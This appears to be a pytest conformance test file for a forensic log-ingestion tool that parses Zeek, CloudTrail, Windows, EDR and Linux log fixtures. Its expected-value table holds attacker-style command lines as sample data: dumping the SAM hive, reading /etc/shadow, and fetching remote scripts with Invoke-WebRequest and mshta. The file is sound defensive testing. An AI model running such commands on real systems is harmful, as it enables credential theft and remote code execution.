"""One conformance test for every format: what its fixtures become in the real event store.

A golden fixture is read whole; a malformed one keeps its good records and locates the others. For both: records in =
events + errors + declared skips. Fixtures are of our own making; adding a format adds its two files here.
"""

from __future__ import annotations

import inspect
import io
import sys
import uuid
from collections.abc import Callable
from functools import cache, partial
from pathlib import Path

import pytest

from ircopilot.domain.event import HOT_BY_NAME, Event
from ircopilot.domain.evidence import Artifact, Clock, Load
from ircopilot.domain.ids import event_id
from ircopilot.evidence.decoders.framing import numbered_lines
from ircopilot.evidence.load import load_artifact
from ircopilot.evidence.mappings.base import Mapping
from ircopilot.evidence.mappings.compile import Assumed, select_events
from ircopilot.evidence.registry import DECODERS, MAPPINGS, SIGNATURES
from ircopilot.evidence.sniff import SAMPLE_BYTES, Sniffed, sniff
from ircopilot.stores import StoreSet
from ircopilot.stores.events import EventScope
from ircopilot.stores.postgres import artifacts, incidents

FIXTURES = Path(__file__).parent / "fixtures"
ASSUMED = Assumed(year=2031, month=12)
FILES = sorted(FIXTURES.glob("*.*.*"))
GOLDEN = [f for f in FILES if ".golden." in f.name]
MALFORMED = [f for f in FILES if ".malformed." in f.name]

Loaded = tuple[Sniffed, Load, list[Event]]


def sniffed(file: Path) -> Sniffed:
    data = file.read_bytes()
    return sniff(data[:SAMPLE_BYTES], whole=len(data) <= SAMPLE_BYTES)


@pytest.fixture(scope="module")
def org() -> str:
    """An organisation of its own, named as the event store wants it: by a UUID."""
    return str(uuid.uuid4())


@pytest.fixture(scope="module")
def load(stores: StoreSet, org: str) -> Callable[[Path], Loaded]:
    """Sends a file through sniffing, decoding, mapping and the event store; each file once."""

    @cache
    def run(file: Path) -> Loaded:
        data, found = file.read_bytes(), sniffed(file)
        assert found.decoder and found.mapping, found.unreadable
        sha256, size = stores.vault.put(org, [data])
        artifact = Artifact(sha256=sha256, size=size, name=file.name, format=found.format)
        with stores.database.tenant(org) as tx:
            incident = incidents.upsert_incident(tx, "INC-1", "formats")
            artifacts.record_artifact(tx, incident.incident_id, artifact)
        done = load_artifact(
            stores, org, incident.incident_id, artifact, found.decoder, found.mapping, assumed=ASSUMED,
            open_plaintext=partial(io.BytesIO, data),
        )  # fmt: skip
        scope = EventScope(org, (done.load_id,))
        table = stores.events.run_event_query(scope, "SELECT event_id FROM {events} ORDER BY seq")
        ids = [str(x) for x in table.column("event_id").to_pylist()]
        by_id = stores.events.fetch_events(scope, ids)
        return found, done, sorted(by_id.values(), key=lambda e: e.seq)

    return run


def records_in(found: Sniffed, file: Path) -> int:
    """Records, errors and skips as the decoder alone counts them."""
    assert found.decoder
    blocks = list(found.decoder.decode(io.BytesIO(file.read_bytes())))
    return sum(len(b.seqs) + len(b.errors) + b.skips for b in blocks)


@pytest.mark.parametrize("file", FILES, ids=lambda f: f.name)
def test_fixture_adds_up(load: Callable[[Path], Loaded], file: Path) -> None:
    found, done, events = load(file)
    assert done.state == "committed"
    assert done.records == done.events + done.errors + done.skips == records_in(found, file)
    assert len(events) == done.events > 0
    assert all(e.event_id == event_id(e.artifact_sha256, e.locator) for e in events)
    assert all(set(e.ecs) <= set(HOT_BY_NAME) for e in events)
    assert all(e.time_field and e.source and e.fields for e in events)
    assert all(e.time.year == 2031 for e in events)
    if ".golden." in file.name:
        assert done.errors == 0
    else:
        assert all(p.locator and p.reason for p in done.parse_errors)


def test_malformed_fixtures_hold_bad_records(load: Callable[[Path], Loaded]) -> None:
    assert MALFORMED
    assert sum(load(f)[1].errors > 0 for f in MALFORMED) >= len(MALFORMED) - 1


def test_every_mapping_and_decoder_has_a_golden_fixture() -> None:
    seen = [sniffed(f) for f in GOLDEN]
    assert set(DECODERS) - {s.decoder.name for s in seen if s.decoder} <= {"evtx"}
    missing = set(MAPPINGS) - {s.mapping.name for s in seen if s.mapping}
    assert {m for m in missing if not m.startswith("windows_")} == set()


@pytest.mark.parametrize("decoder", DECODERS.values(), ids=lambda d: d.name)
def test_decoder_names_its_source_and_survives_noise(decoder: object) -> None:
    assert "Source" in (inspect.getdoc(sys.modules[type(decoder).__module__]) or "")
    name = decoder.name  # type: ignore[attr-defined]
    if name == "evtx":
        return
    for noise in (b"", b"\n", b"\x00" * 100, b"{", b"[", b"[{", b'{"Records":[', b'"' * 1000, bytes(range(256)) * 20):
        blocks = list(DECODERS[name].decode(io.BytesIO(noise)))
        assert blocks
        assert all(len(b.locators) == len(b.seqs) == len(b.payloads) for b in blocks)


@pytest.mark.parametrize("mapping", MAPPINGS.values(), ids=lambda m: m.name)
def test_mapping_is_well_formed(mapping: Mapping) -> None:
    assert mapping.about and mapping.times and mapping.sources
    assert {r.column for r in mapping.rows} <= set(HOT_BY_NAME)
    assert len(select_events(mapping, Clock(), ASSUMED)) < 150_000


def test_signatures_name_known_mappings() -> None:
    assert {s.mapping for s in SIGNATURES} <= set(MAPPINGS)


def test_every_line_locator_leads_to_its_line(load: Callable[[Path], Loaded]) -> None:
    for file in GOLDEN:
        _, _, events = load(file)
        lines = {n.number: n.text or b"" for n in numbered_lines(io.BytesIO(file.read_bytes()))}
        for event in events:
            kind, _, number = event.locator.partition(":")
            if kind == "line" and event.message and "\\" not in event.message and '"' not in event.message:
                assert event.message.encode() in lines[int(number)]


# What single events of the golden fixtures say: file, position, source, and some of their columns.
SAID: tuple[tuple[str, int, str, dict[str, object]], ...] = (
    ("zeek_tsv.golden.log", 0, "zeek.conn", {"source_bytes": 1200, "destination_bytes": 3400, "event_duration": 1.5}),
    ("zeek_tsv.golden.log", 2, "zeek.dns", {"dns_question_name": "login.example.org",
                                            "dns_answers": "192.0.2.4,cdn.example.net"}),
    ("zeek_tsv.golden.log", 3, "zeek.dns", {"error_code": "NXDOMAIN"}),
    ("zeek_tsv.golden.log", 4, "zeek.http", {"url_full": "http://drops.example.org:8080/a\tb.bin",
                                             "file_mime_type": "application/zip"}),
    ("zeek_tsv.golden.log", 5, "zeek.kerberos", {"user_name": "mara", "user_domain": "EXAMPLE.ORG",
                                                 "service_name": "cifs/nas01.example.org", "event_outcome": "failure"}),
    ("zeek_tsv.golden.log", 6, "zeek.smb_files", {"file_path": "\\\\nas01\\public\\plans\\draft.docx",
                                                  "file_name": "draft.docx"}),
    ("zeek_tsv.golden.log", 7, "zeek.x509", {"tls_subject": "CN=drops.example.org", "tls_issuer": "CN=Example CA"}),
    ("zeek_tsv.golden.log", 8, "zeek.packet_filter", {}),
    ("zeek_json.golden.log", 1, "zeek.ssl", {"destination_domain": "login.example.org"}),
    ("zeek_json.golden.log", 2, "zeek.dns", {"source_ip": "2001:db8::7", "destination_port": 53}),
    ("cloudtrail_records.golden.json", 0, "aws.cloudtrail", {"cloud_resource": "ledger/2031/q1.csv", "user_name": "noor"}),
    ("cloudtrail_lines.golden.json", 1, "aws.cloudtrail", {"event_action": "AssumeRole", "event_outcome": "success",
                                                           "cloud_resource": "arn:aws:iam::444455556666:role/Reader"}),
    ("cloudtrail_pretty.golden.json", 2, "aws.cloudtrail", {"cloud_resource": "i-0abc,i-0def", "event_outcome": "failure",
                                                            "error_code": "Client.UnauthorizedOperation",
                                                            "user_name": "batch"}),
    ("cloudtrail_lookup.golden.json", 0, "aws.cloudtrail", {"cloud_access_key_id": "AKIAEXAMPLE00000001"}),
    ("defender.golden.csv", 0, "defender.hunting", {"process_executable": "C:\\Windows\\System32\\whoami.exe", "process_pid": 4120,
                                                    "process_parent_executable": "C:\\Windows\\System32\\cmd.exe",
                                                    "process_parent_pid": 812, "event_action": "process-started"}),
    ("defender.golden.csv", 1, "defender.hunting", {"process_name": "cmd.exe", "destination_ip": "198.51.100.7",
                                                    "source_ip": "192.0.2.14", "network_direction": "outbound"}),
    ("defender.golden.csv", 2, "defender.hunting", {"source_ip": "198.51.100.9", "user_name": "mara"}),
    ("windows_xml.golden.xml", 0, "windows.sysmon", {"process_command_line": 'whoami /all && echo "done"', "process_pid": 736,
                                                     "host_name": "kiln-07.fern.example", "event_code": "1"}),
    ("windows_xml.golden.xml", 1, "windows.security", {"event_code": "1102", "user_name": "odile", "user_domain": "FERN"}),
    ("windows_text.golden.log", 0, "windows.security", {"process_command_line": "reg save HKLM\\sam C:\\Users\\Public\\s.hiv",
        "process_pid": 6700, "process_parent_pid": 7056, "user_name": "i.moss", "host_name": "acc-07.brook.example"}),
    ("windows_text.golden.log", 1, "windows.security", {"user_target_name": "i.moss", "source_ip": "192.0.2.19", "logon_type": "3"}),
    ("windows_text.golden.log", 2, "windows.sysmon", {"process_command_line": "whoami /all", "process_pid": 6700}),
    ("windows_text.golden.log", 3, "windows.powershell", {"script_block_text": "function Get-Thing {\n    Get-Process\n}"}),
    ("windows_wevtutil.golden.log", 0, "windows.system", {"service_name": "Updater7", "service_executable": "C:\\Users\\Public\\u7.exe"}),
    ("windows_wevtutil.golden.log", 1, "windows.security", {"service_name": "\\Sync",
        "service_executable": "mshta.exe https://sync.brook.example/a.hta"}),
    ("windows_text.malformed.log", 1, "windows.system", {"event_code": "7036", "event_provider": "Service Control Manager"}),
    ("event_table.golden.csv", 0, "windows.sysmon", {"process_executable": "C:\\Windows\\System32\\whoami.exe"}),
    ("get_winevent.golden.csv", 0, "windows.security", {"event_code": "4688", "user_name": "odile", "process_pid": 420,
                                                        "process_parent_pid": 500, "process_executable": "C:\\Windows\\System32\\whoami.exe",
                                                        "process_parent_executable": "C:\\Windows\\System32\\cmd.exe",
                                                        "process_command_line": 'whoami /all, "quietly"', "logon_id": "0x3e7f1",
                                                        "host_name": "kiln-07.fern.example"}),
    ("get_winevent.golden.csv", 1, "windows.security", {"user_name": "noor", "user_target_name": "noor", "user_domain": "FERN", "logon_type": "3",
                                                        "source_ip": "198.51.100.7", "source_port": 50122, "logon_id": "0xa1b2"}),
    ("get_winevent.golden.csv", 2, "windows.sysmon", {"process_name": "invoice.exe", "process_pid": 4120, "hash_sha256": "ab" * 32,
                                                      "process_parent_executable": "C:\\Windows\\explorer.exe", "user_name": "odile",
                                                      "process_entity_id": "0ab1c2d3-0001-5e5c-0000-0010aaaa0000"}),
    ("get_winevent.golden.csv", 3, "windows.sysmon", {"destination_ip": "198.51.100.9", "destination_port": 443, "network_direction": "outbound"}),
    ("get_winevent.golden.csv", 4, "windows.system", {"service_name": "fernupd", "service_executable": "C:\\ProgramData\\fernupd.exe",
                                                      "event_action": "service-installed"}),
    ("get_winevent.golden.csv", 5, "windows.powershell", {"script_block_text": "$a = 1\n\nInvoke-WebRequest http://198.51.100.9/a.ps1"}),
    ("get_winevent.golden.csv", 6, "windows.security", {"event_code": "1102", "user_name": "odile", "user_domain": "FERN"}),
    ("get_winevent.golden.csv", 7, "windows.security", {"user_name": "odile", "user_target_name": "Domain Admins"}),
    ("get_winevent.golden.csv", 8, "windows.system", {"service_name": "Print Spooler", "event_action": "service-state-changed"}),
    ("event_viewer.golden.csv", 0, "windows.security", {"process_command_line": 'whoami /all, "quietly"', "host_name": None}),
    ("event_viewer.golden.csv", 1, "windows.security", {"user_name": "noor", "source_ip": "198.51.100.7"}),
    ("event_viewer.golden.csv", 2, "windows.sysmon", {"process_name": "invoice.exe", "process_pid": 4120}),
    ("event_viewer.golden.csv", 3, "windows.security", {"event_code": "1102", "user_name": "odile"}),
    ("format_list.golden.txt", 0, "windows.security", {"process_command_line": 'whoami /all, "quietly"', "user_name": "odile"}),
    ("format_list.golden.txt", 1, "windows.sysmon", {"process_name": "invoice.exe", "process_pid": 4120}),
    ("format_list.golden.txt", 2, "windows.powershell", {"script_block_text": "$a = 1\n\nInvoke-WebRequest http://198.51.100.9/a.ps1"}),
    ("falcon.golden.jsonl", 0, "edr.windows", {"event_code": "process-started", "event_action": "process-started", "host_name": "kiln-07", "process_name": "whoami.exe",
                                               "process_pid": 4120, "process_entity_id": "90210001", "process_parent_entity_id": "90210000",
                                               "process_parent_executable": "cmd.exe", "user_name": "odile", "user_domain": "FERN", "hash_sha256": "ab" * 32}),
    ("falcon.golden.jsonl", 1, "edr.windows", {"event_code": "network-connection", "destination_ip": "198.51.100.9", "destination_port": 443,
                                               "source_ip": "192.0.2.14", "process_entity_id": "90210001", "network_direction": "outbound"}),
    ("falcon.golden.jsonl", 2, "edr.windows", {"event_code": "dns-query", "dns_question_name": "drops.example.org"}),
    ("sentinelone.golden.csv", 0, "edr.windows", {"event_code": "process-started", "process_executable": "C:\\Windows\\System32\\whoami.exe", "process_pid": 4120,
                                                  "process_command_line": "whoami /all", "process_parent_executable": "C:\\Windows\\System32\\cmd.exe",
                                                  "process_parent_pid": 812, "process_parent_command_line": "cmd.exe /c whoami", "user_name": "odile"}),
    ("sentinelone.golden.csv", 1, "edr.windows", {"event_code": "network-connection", "process_name": "cmd.exe", "process_pid": 812,
                                                  "process_parent_executable": "explorer.exe", "destination_ip": "198.51.100.9"}),
    ("carbon_black.golden.jsonl", 0, "edr.windows", {"process_name": "whoami.exe", "process_pid": 4120, "process_entity_id": "g-2", "process_parent_pid": 812,
                                                     "process_parent_executable": "c:\\windows\\system32\\cmd.exe", "user_name": "odile"}),
    ("carbon_black.golden.jsonl", 1, "edr.windows", {"event_code": "process-started", "process_name": "whoami.exe", "process_parent_pid": 812}),
    ("carbon_black.golden.jsonl", 2, "edr.windows", {"event_code": "network-connection", "process_name": "cmd.exe", "destination_port": 443}),
    ("osquery.golden.jsonl", 0, "edr.linux", {"event_code": "process-started", "process_executable": "/usr/bin/curl", "process_pid": 310, "process_parent_pid": 300,
                                              "host_name": "gate01", "user_id": "33"}),
    ("osquery.golden.jsonl", 1, "edr.linux", {"event_code": None, "event_action": None, "process_name": "sshd"}),
    ("process_table.golden.csv", 0, "edr.windows", {"event_code": "process-started", "event_action": "process-started", "process_pid": 4120,
                                                    "process_executable": "C:\\Windows\\System32\\whoami.exe", "process_command_line": "whoami /all",
                                                    "process_parent_executable": "C:\\Windows\\System32\\cmd.exe", "process_parent_pid": 812,
                                                    "process_parent_command_line": "cmd.exe /c whoami", "user_name": "odile", "user_domain": "FERN",
                                                    "hash_sha256": "ab" * 32}),
    ("process_table.golden.csv", 1, "edr.linux", {"process_executable": "/usr/bin/curl", "process_parent_pid": 300, "host_name": "gate01"}),
    ("process_events.golden.jsonl", 0, "edr.windows", {"event_code": "process-started", "process_executable": "whoami.exe", "process_parent_pid": 812}),
    ("process_events.golden.jsonl", 1, "edr.windows", {"event_code": None, "event_action": "Process Terminated", "process_name": "whoami.exe"}),
    ("w3c.golden.log", 0, "web.access", {"url_full": "/owa/?id=7&x=y", "user_name": "odile", "source_ip": "198.51.100.7",
                                         "user_agent_original": "Mozilla/5.0 (Windows NT 10.0)", "destination_port": 443}),
    ("w3c.golden.log", 1, "web.access", {"url_full": "/up.aspx", "http_response_status_code": 500, "user_name": None}),
    ("vpc_flow.golden.log", 1, "aws.vpcflow", {"destination_port": 3389, "event_action": "reject", "network_transport": "tcp"}),
    ("office_audit.golden.csv", 0, "m365.audit", {"event_action": "New-InboxRule", "user_name": "odile@fern.example",
                                                  "source_ip": "198.51.100.7"}),
    ("office_audit.golden.csv", 1, "m365.audit", {"source_ip": "2001:db8::7", "file_name": "pay.xlsx",
                                                  "url_full": "https://fern.example/sites/hr/pay.xlsx"}),
    ("day_and_clock.golden.csv", 1, "generic", {"host_name": "desk4", "user_name": "noor"}),
    ("eve.golden.jsonl", 1, "alert", {"source_ip": "192.0.2.14", "host_name": None}),
    ("syslog.golden.log", 0, "linux.sshd", {"user_name": "noor", "event_outcome": "success", "source_port": 50122,
                                            "logon_type": "publickey", "source_ip": "198.51.100.7"}),
    ("syslog.golden.log", 1, "linux.sshd", {"user_name": "oracle", "event_outcome": "failure"}),
    ("syslog.golden.log", 2, "linux.sudo", {"user_name": "noor", "user_target_name": "root",
                                            "process_command_line": "/usr/bin/tar czf /tmp/x.tgz /srv/data"}),
    ("syslog.golden.log", 3, "linux.su", {"user_name": "noor", "user_target_name": "root", "event_outcome": "success"}),
    ("syslog.golden.log", 4, "linux.cron", {"process_command_line": "/usr/local/bin/backup.sh", "user_name": "root"}),
    ("syslog.golden.log", 5, "linux.accounts", {"event_action": "user-created", "user_target_name": "svc2"}),
    ("syslog.golden.log", 7, "linux.sshd", {"event_action": "ssh-invalid-user", "user_name": "admin"}),
    ("auditd.golden.log", 0, "linux.auditd", {"event_action": "execve", "process_pid": 301, "process_parent_pid": 300,
                                              "process_executable": "/usr/bin/tar", "rule_name": "exec"}),
    ("auditd.golden.log", 1, "linux.auditd", {"process_command_line": "tar czf /tmp/my file.tgz"}),
    ("auditd.golden.log", 3, "linux.auditd", {"process_command_line": "tar czf"}),
    ("auditd.golden.log", 4, "linux.auditd", {"user_name": "noor", "source_ip": "198.51.100.7", "host_name": "bastion",
                                              "event_outcome": "failure"}),
    ("auditd.golden.log", 5, "linux.auditd", {"process_command_line": "cat /etc/shadow", "host_name": "bastion"}),
    ("sysmon_linux.golden.log", 0, "linux.sysmon", {"event_action": "process-start", "process_parent_pid": 300,
                                                    "process_command_line": 'tar czf /tmp/x.tgz "/srv/my data" && echo'}),
    ("sysmon_linux.golden.log", 1, "linux.sysmon", {"destination_port": 443, "network_direction": "outbound"}),
    ("syslog_table.golden.jsonl", 0, "linux.sysmon", {"event_action": "process-start"}),
    ("syslog_table.golden.jsonl", 1, "linux.auditd", {"event_action": "execve", "process_pid": 301, "host_name": "bastion",
                                                      "user_name": "root", "process_command_line": 'tar czf "/srv/my data.tgz" /srv'}),
    ("syslog_table.golden.jsonl", 2, "linux.sshd", {"user_name": "noor", "host_name": "bastion", "source_ip": "198.51.100.7"}),
    ("journal.golden.json", 0, "linux.sshd", {"user_name": "noor", "host_name": "bastion"}),
    ("access.golden.log", 0, "web.access", {"http_response_status_code": 404, "user_agent_original": "probe/1.0"}),
    ("slack.golden.json", 1, "slack.message", {"user_name": "deploys"}),
    ("alert.golden.json", 0, "alert", {"rule_name": "Archive of many files", "event_severity": "high", "host_name": "bastion"}),
    ("timesketch.golden.csv", 2, "generic", {"host_name": "bastion", "user_name": "root", "event_action": "Last Access Time"}),
    ("table.golden.csv", 0, "generic", {"host_name": "bastion", "user_name": "noor", "source_ip": "198.51.100.7"}),
    ("plaso.golden.jsonl", 0, "generic", {"hash_sha256": "ab" * 32, "file_path": "/srv/ledger.xlsx"}),
)  # fmt: skip


def test_golden_fixtures_say_what_they_mean(load: Callable[[Path], Loaded]) -> None:
    events = {name: load(FIXTURES / name)[2] for name in {row[0] for row in SAID}}
    for name, index, source, columns in SAID:
        event = events[name][index]
        assert event.source == source, (name, index)
        assert {k: event.ecs.get(k) for k in columns} == columns, (name, index)


def test_kinds_times_and_handed_out_keys(load: Callable[[Path], Loaded]) -> None:
    assert {e.kind for e in load(FIXTURES / "slack.golden.json")[2]} == {"comm"}
    assert {e.kind for e in load(FIXTURES / "alert.golden.json")[2]} == {"alert"}
    assumed = load(FIXTURES / "cloudtrail_records.golden.json")[2][1]
    assert assumed.fields["responseElements.credentials.accessKeyId"] == "ASIAEXAMPLE00000001"
    _, done, events = load(FIXTURES / "syslog.golden.log")
    assert (done.clock.year_assumed, done.clock.zone_assumed) == (2031, "UTC")
    assert events[7].time.isoformat() == "2031-04-02T10:00:08.003000+00:00"
    assert load(FIXTURES / "auditd.golden.log")[1].clock.year_assumed is None
    assert load(FIXTURES / "table.golden.csv")[1].clock.zone_assumed == "UTC"
    assert load(FIXTURES / "timesketch.golden.csv")[1].clock.zone_assumed == ""


def test_actions_taken_stand_on_the_timeline(load: Callable[[Path], Loaded]) -> None:
    _, _, events = load(FIXTURES / "actions.golden.jsonl")
    assert [(e.kind, e.source, e.message, e.ecs["event_action"], e.ecs["user_name"]) for e in events] == [
        ("action", "ircopilot.action", "Isolate the workstation", state, "nadia") for state in ("open", "done")
    ]


def test_day_and_clock_apart_are_one_time(load: Callable[[Path], Loaded]) -> None:
    _, _, events = load(FIXTURES / "day_and_clock.golden.csv")
    assert [e.time.isoformat() for e in events] == ["2031-04-02T10:00:01+00:00", "2031-04-02T10:00:02+00:00"]


def test_only_what_names_a_rule_is_an_alert(load: Callable[[Path], Loaded]) -> None:
    _, _, events = load(FIXTURES / "eve.golden.jsonl")
    assert [e.kind for e in events] == ["alert", "log"]
